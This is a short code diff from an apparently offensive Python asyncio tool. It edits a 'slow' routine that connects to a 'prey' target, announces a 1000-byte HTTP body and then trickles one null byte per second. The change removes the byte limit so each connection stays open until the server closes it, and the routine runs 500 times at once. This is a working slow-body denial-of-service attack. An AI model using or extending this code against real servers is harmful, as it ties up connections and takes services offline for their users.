@@ -157,9 +157,8 @@ async def bodies(_session: aiohttp.ClientSession, prey: Prey) -> None:
     async def slow() -> None:
         _, writer = await prey.connect()
         writer.write(head + b"Content-Length: 1000\r\n\r\n")
-        for _ in range(1000):
+        while not writer.is_closing():
             writer.write(b"\x00")
-            await writer.drain()
             await asyncio.sleep(1)
 
     await again_and_again(slow, 500)
